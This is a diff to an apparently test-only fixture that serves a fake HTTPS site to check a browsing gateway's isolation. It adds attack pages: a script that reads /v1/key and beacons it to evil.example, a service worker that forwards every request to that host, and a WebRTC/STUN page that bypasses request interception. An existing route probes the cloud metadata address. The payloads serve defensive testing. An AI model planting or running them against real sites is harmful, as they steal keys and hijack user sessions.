@@ -1,3 +1,4 @@
+import dgram from "node:dgram";
 import fs from "node:fs";
 import https from "node:https";
 import os from "node:os";
@@ -22,7 +23,10 @@ export async function testCertificate(names: string[]): Promise<{ key: string; c
 }
 
 /** An ordinary website over HTTPS on loopback: pages, redirects, a large body, a slow answer, cookies. */
-export async function startFakeSite(tlsPair: { key: string; cert: string; caFile: string }, options: { forbiddenOrigin?: string } = {}): Promise<FakeSite> {
+export async function startFakeSite(
+  tlsPair: { key: string; cert: string; caFile: string },
+  options: { forbiddenOrigin?: string; stunPort?: number } = {},
+): Promise<FakeSite> {
   const hits: string[] = [];
   const server = https.createServer({ key: tlsPair.key, cert: tlsPair.cert }, (req, res) => {
     const url = new URL(req.url ?? "/", "https://fake");
@@ -31,6 +35,20 @@ export async function startFakeSite(tlsPair: { key: string; cert: string; caFile
       case "/page":
         res.writeHead(200, { "content-type": "text/html; charset=utf-8", "set-cookie": "session=secret", connection: "keep-alive", "x-custom": "kept" });
         return res.end("<h1>hello from the fake site</h1>");
+      case "/evil.html":
+        // What an attacker would proxy onto the gateway's origin: script that acts as the signed-in user.
+        res.writeHead(200, {
+          "content-type": "text/html; charset=utf-8",
+          "content-security-policy": "script-src * 'unsafe-inline'",
+          "access-control-allow-origin": "*",
+          "x-frame-options": "ALLOWALL",
+          refresh: "0; url=https://evil.example/",
+        });
+        return res.end(`<script>fetch("/v1/key").then((r) => r.text()).then((t) => navigator.sendBeacon("https://evil.example/", t));
+navigator.serviceWorker.register("/v1/proxy?url=https://evil.test/sw.js", { scope: "/" });</script>`);
+      case "/sw.js":
+        res.writeHead(200, { "content-type": "text/javascript", "service-worker-allowed": "/", link: "</sw.js>; rel=serviceworker" });
+        return res.end(`self.addEventListener("fetch", (e) => e.respondWith(fetch("https://evil.example/?" + e.request.url)));`);
       case "/shot": {
         // A page that tries to pull from a forbidden origin three ways; the capture must still work.
         const bad = options.forbiddenOrigin ?? "https://127.0.0.1:9";
@@ -39,6 +57,13 @@ export async function startFakeSite(tlsPair: { key: string; cert: string; caFile
 <body><h1 id="title">Screenshot me</h1><div class="tall"></div>
 <img src="${bad}/pixel.png"><script>fetch("${bad}/leak").catch(() => {}); fetch("https://169.254.169.254/latest/meta-data/").catch(() => {});</script></body></html>`);
       }
+      case "/webrtc":
+        // WebRTC goes around the gateway's request interception: ICE would send UDP straight to this STUN server.
+        res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
+        return res.end(`<!doctype html><h1>rtc</h1><script>
+const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${options.stunPort ?? 9}" }] });
+pc.createDataChannel("leak");
+pc.createOffer().then((offer) => pc.setLocalDescription(offer));</script>`);
       case "/style.css":
         res.writeHead(200, { "content-type": "text/css" });
         return res.end("body{margin:0;background:#4f46e5;color:white;font:32px sans-serif} .tall{height:2400px}");
@@ -105,4 +130,13 @@ export async function startSentinel(tlsPair: { key: string; cert: string }): Pro
         server.close(() => resolve());
       }),
   };
+}
+
+/** A UDP listener that only counts datagrams (a STUN server a page must not reach). */
+export async function startUdpSentinel(): Promise<{ port: number; packets: () => number; close(): Promise<void> }> {
+  let packets = 0;
+  const socket = dgram.createSocket("udp4");
+  socket.on("message", () => (packets += 1));
+  await new Promise<void>((resolve) => socket.bind(0, "127.0.0.1", resolve));
+  return { port: socket.address().port, packets: () => packets, close: () => new Promise((resolve) => socket.close(() => resolve())) };
 }
